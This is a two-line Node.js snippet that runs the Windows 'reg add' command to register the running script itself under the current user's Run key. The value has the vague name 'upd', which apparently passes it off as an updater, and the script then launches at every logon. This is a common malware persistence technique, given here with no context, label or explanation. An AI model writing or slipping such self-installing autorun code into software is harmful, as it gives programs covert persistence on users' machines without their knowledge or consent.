const { execFile } = require('child_process');
execFile('reg', ['add', 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '/v', 'upd', '/d', process.argv[1]]);
